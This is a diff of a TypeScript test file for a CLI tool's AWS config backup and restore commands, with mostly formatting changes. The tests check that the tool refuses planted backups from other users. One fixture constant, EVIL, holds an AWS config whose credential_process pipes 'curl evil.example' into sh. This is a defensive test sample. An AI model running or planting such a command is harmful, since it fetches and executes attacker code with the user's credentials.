@@ -4,7 +4,16 @@
  * restored; nor a backup made for another config. And a backup robo cannot
  * record makes the run fail with nothing changed.
  */
-import { chmodSync, chownSync, existsSync, mkdirSync, readFileSync, readdirSync, utimesSync, writeFileSync } from 'node:fs';
+import {
+  chmodSync,
+  chownSync,
+  existsSync,
+  mkdirSync,
+  readFileSync,
+  readdirSync,
+  utimesSync,
+  writeFileSync,
+} from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { treeState } from './helpers/files.js';
@@ -14,7 +23,8 @@ import { sandboxes } from './helpers/sandbox.js';
 const sandbox = sandboxes();
 const USER_FILE = '[default]\nregion = eu-north-1\n';
 const EVIL = '[default]\ncredential_process = /bin/sh -c "curl evil.example | sh"\n';
-const snapshot = (team: string) => readFileSync(path.join(projectRoot, 'test', '__snapshots__', 'teams', `${team}.config`), 'utf8');
+const snapshot = (team: string) =>
+  readFileSync(path.join(projectRoot, 'test', '__snapshots__', 'teams', `${team}.config`), 'utf8');
 
 async function listing(env: NodeJS.ProcessEnv): Promise<Array<{ path: string; team: string | null }>> {
   const result = await runRobo(['aws.backups', '--json'], { env });
@@ -23,7 +33,7 @@ async function listing(env: NodeJS.ProcessEnv): Promise<Array<{ path: string; te
 }
 
 describe('aws.backups and aws.restore trust only the backups robo made of this config', () => {
-  it("a planted file of another user, newer by mtime, is not listed, not restored, and refused when named", async () => {
+  it('a planted file of another user, newer by mtime, is not listed, not restored, and refused when named', async () => {
     const box = sandbox();
     mkdirSync(path.dirname(box.awsConfig), { recursive: true });
     writeFileSync(box.awsConfig, USER_FILE);
@@ -72,7 +82,9 @@ describe('aws.backups and aws.restore trust only the backups robo made of this c
     expect(none.stderr).toContain(`no robo backups of ${box.awsConfig}`);
     const named = await runRobo(['aws.restore', made!], { env: box.env });
     expect(named.code).toBe(2);
-    expect(named.stderr).toContain(`refusing to restore ${made}: it is a backup of ${other}, not of ${box.awsConfig}; nothing was restored`);
+    expect(named.stderr).toContain(
+      `refusing to restore ${made}: it is a backup of ${other}, not of ${box.awsConfig}; nothing was restored`,
+    );
     expect(readFileSync(box.awsConfig, 'utf8')).toBe(USER_FILE);
   });
 
@@ -84,10 +96,20 @@ describe('aws.backups and aws.restore trust only the backups robo made of this c
       writeFileSync(config, USER_FILE);
     }
     const envs = configs.map((config) => ({ ...box.env, AWS_CONFIG_FILE: config }));
-    const results = await Promise.all(envs.flatMap((env) => ['platform', 'foundation', 'fpa'].map((team) => runRobo(['aws.config', '--team', team], { env, timeoutMs: 90_000 }))));
+    const results = await Promise.all(
+      envs.flatMap((env) =>
+        ['platform', 'foundation', 'fpa'].map((team) =>
+          runRobo(['aws.config', '--team', team], { env, timeoutMs: 90_000 }),
+        ),
+      ),
+    );
     for (const result of results) expect(result.code, result.stderr).toBe(0);
     const listed = [...(await listing(envs[0]!)), ...(await listing(envs[1]!))].map((backup) => backup.path).sort();
-    expect(listed).toEqual(readdirSync(box.backupDir).map((name) => path.join(box.backupDir, name)).sort());
+    expect(listed).toEqual(
+      readdirSync(box.backupDir)
+        .map((name) => path.join(box.backupDir, name))
+        .sort(),
+    );
     expect(listed.length).toBeGreaterThanOrEqual(2);
   }, 120_000);
 
@@ -98,7 +120,9 @@ describe('aws.backups and aws.restore trust only the backups robo made of this c
     const blocked = path.join(box.root, 'state-is-a-file');
     writeFileSync(blocked, '');
     chmodSync(blocked, 0o600);
-    const result = await runRobo(['aws.config', '--team', 'platform'], { env: { ...box.env, XDG_STATE_HOME: blocked } });
+    const result = await runRobo(['aws.config', '--team', 'platform'], {
+      env: { ...box.env, XDG_STATE_HOME: blocked },
+    });
     expect(result.code).toBe(5);
     expect(result.stderr).toContain(`cannot record the backup of the aws config in ${blocked}/robo/backups.jsonl`);
     expect(result.stderr).toContain('nothing was changed');
